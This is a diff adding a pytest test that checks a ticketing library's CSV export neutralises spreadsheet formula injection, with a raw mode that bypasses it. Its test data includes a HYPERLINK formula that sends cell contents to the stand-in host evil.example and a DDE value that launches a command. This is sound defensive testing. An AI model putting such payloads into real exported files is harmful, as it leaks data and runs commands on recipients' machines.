@@ -504,6 +504,34 @@ def test_csv_has_one_row_per_ticket_with_chosen_columns(tmp_path: Path):
         tf.export_csv(repo, io.StringIO(), ["colour"])
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_would_run_as_spreadsheet_formulas_get_a_quote_unless_raw(start: str):
+    import csv
+
+    wf = tf.Workflow(tf.load_lifecycle(HELPDESK))
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    customer = tf.Actor(f"{start}cmd|' /C calc'!A0", roles={"requester"})
+    t = wf.open(customer, title=formula, fields={"category": "access"})
+    wf.fire(t.id, "triage", AGENT, fields={"resolution": formula}, participants={"@mallory"})
+    columns = ["id", "title", "requester", "participants", "field:resolution", "version"]
+
+    def rows(**kwargs: Any) -> list[list[str]]:
+        out = io.StringIO()
+        tf.export_csv(wf.repository, out, columns, **kwargs)
+        return list(csv.reader(io.StringIO(out.getvalue())))
+
+    assert rows()[1][1:] == ["'" + formula, "'" + customer.id, "'@mallory", "'" + formula, "2"]
+    assert rows(raw=True)[1][1:] == [formula, customer.id, "@mallory", formula, "2"]  # asked for explicitly
+    view = io.StringIO()
+    wf.export_view(view, columns=columns)
+    assert list(csv.reader(io.StringIO(view.getvalue())))[1] == rows()[1]
+    view = io.StringIO()
+    wf.export_view(view, columns=columns, raw=True)
+    assert list(csv.reader(io.StringIO(view.getvalue())))[1] == rows(raw=True)[1]
+    harmless = wf.open(AGENT, title="Printer: 3-4 pages = jam", fields={"category": "hardware"})
+    assert [r[1] for r in rows() if r[0] == harmless.id] == ["Printer: 3-4 pages = jam"]  # only a formula's start
+
+
 # -- PostgreSQL ----------------------------------------------------------------------
 
 POSTGRES_URL = os.environ.get("TICKETFLOW_TEST_POSTGRES_URL")
